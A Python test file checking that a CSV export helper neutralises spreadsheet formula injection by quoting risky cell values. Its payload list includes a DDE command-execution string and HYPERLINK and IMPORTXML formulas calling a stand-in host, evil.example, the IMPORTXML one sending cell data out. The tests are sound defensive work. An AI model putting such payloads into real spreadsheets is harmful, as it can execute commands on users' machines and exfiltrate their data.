"""A cell of a table is never a formula, whatever stands in it (SEC-S16)."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from engine.core.cells import safe, table

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example";"x")', "\t=1", "\r=1", "\n=1",
    " =1", "   @x", "+55 41 90000-0001", "-", "=", '=IMPORTXML("https://evil.example/?"&A1;"//a")', "\t", "@",
)  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_what_would_begin_a_formula_stands_behind_a_quote(text):
    assert safe(text) == f"'{text}"


@pytest.mark.parametrize("text", ["Ana", "1=1", "a@b.example", "R$ 10", "'=1", "", "ção", "1-2"])
def test_any_other_cell_stays_as_it_is(text):
    assert safe(text) == text


@given(st.lists(st.lists(st.text(st.characters(exclude_categories=("Cs",))), min_size=2, max_size=2), max_size=5))
def test_a_table_reads_back_with_every_cell_in_its_place_and_none_a_formula(lines: list[list[str]]):
    text = table(("a", "b"), lines)
    read = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=";"))

    assert text.startswith("\ufeff")
    assert read == [["a", "b"], *[[safe(cell) for cell in line] for line in lines]]
    assert not any(
        cell.lstrip(" ")[:1] in tuple("=+-@\t\r\n") and cell.strip(" ") for line in read[1:] for cell in line
    )
